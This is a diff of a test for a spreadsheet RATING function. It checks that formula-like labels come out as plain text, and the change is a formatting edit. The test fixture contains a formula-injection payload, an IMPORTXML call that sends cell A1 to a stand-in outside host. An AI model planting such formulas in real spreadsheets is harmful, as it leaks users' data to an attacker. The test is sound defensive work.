@@ -270,7 +270,12 @@ describe('RATING', () => {
   it('spills a label that starts like a formula as that text: spilled values are values', () => {
     const evil = '=IMPORTXML("https://x.example/?"&A1, "//a")'
     const table = call('RATING', column(evil, evil, '+7 701', '@x'), column(5, 4, 5, 3), 1)
-    expect(table.slice(1).map((row: unknown[]) => row[1]).sort()).toEqual(['+7 701', '@x', evil].sort())
+    expect(
+      table
+        .slice(1)
+        .map((row: unknown[]) => row[1])
+        .sort(),
+    ).toEqual(['+7 701', '@x', evil].sort())
   })
 })
 
